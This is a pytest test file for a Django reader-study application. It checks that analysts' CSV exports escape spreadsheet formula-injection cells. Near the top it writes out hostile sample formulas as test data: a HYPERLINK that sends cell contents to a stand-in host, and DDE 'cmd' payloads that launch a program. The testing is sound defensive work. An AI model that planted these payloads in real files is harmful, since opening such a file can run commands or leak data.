"""The analysts' CSV exports escape every cell a spreadsheet would run as a formula: reader
names, case ids and labels, and the study's name, whatever reached the database."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User

from readerstudy.studies.models import Case, Study
from tests.support.graded import build_graded_study

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_study(coordinator) -> Study:
    """A graded study whose readers are called, and whose cases are labelled, with formulas.

    The import refuses such manifest cells; these arrive the other ways a name can: a user
    account named by an administrator, a case edited in the admin, data from an older version.
    """
    study, _, _ = build_graded_study(coordinator=coordinator, n_cases=24, n_readers=4)
    for enrolment, formula in zip(study.enrolments.order_by("pk"), FORMULAS, strict=True):
        User.objects.filter(pk=enrolment.reader_id).update(username=formula)
    for n, case in enumerate(study.cases.order_by("pk")):
        formula = FORMULAS[n % len(FORMULAS)]
        Case.objects.filter(pk=case.pk).update(
            source_id=f"{formula}#{n}", diagnosis_label=formula, lesion_id=formula, site=formula
        )
    Study.objects.filter(pk=study.pk).update(name=f"Panel\n{FORMULAS[0]}")
    return study


def runnable_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a formula character, and no number
    (iMRMC's truth rows start with the reader id -1)."""
    found = []
    for line in text.splitlines():
        for cell in next(csv.reader([line]), []):
            if cell.startswith(PREFIXES):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def export_text(client, study: Study, fmt: str, identities: bool) -> str:
    url = f"/analysis/studies/{study.pk}/export/{fmt}/" + ("?identities=1" if identities else "")
    response = client.get(url)
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode()


@pytest.mark.parametrize("identities", [False, True], ids=["pseudonyms", "identities"])
@pytest.mark.parametrize("fmt", ["csv", "ratings", "imrmc"])
def test_csv_exports_leave_no_cell_a_spreadsheet_would_run(
    hostile_study, analyst_client, fmt, identities
) -> None:
    text = export_text(analyst_client, hostile_study, fmt, identities)
    assert runnable_cells(text) == []


def test_the_escaped_names_and_ids_are_still_in_the_exports(hostile_study, analyst_client):
    decisions = export_text(analyst_client, hostile_study, "csv", identities=True)
    ratings = export_text(analyst_client, hostile_study, "ratings", identities=True)
    rows = list(csv.DictReader(io.StringIO(decisions)))
    # Escaped with a leading apostrophe, the text a spreadsheet then shows as it is.
    assert {row["reader"] for row in rows} == {"'" + formula for formula in FORMULAS}
    assert all(row["source_id"].startswith("'") for row in rows)
    assert {row["reader"] for row in csv.DictReader(io.StringIO(ratings))} == {
        "CNN",
        *("'" + formula for formula in FORMULAS),
    }
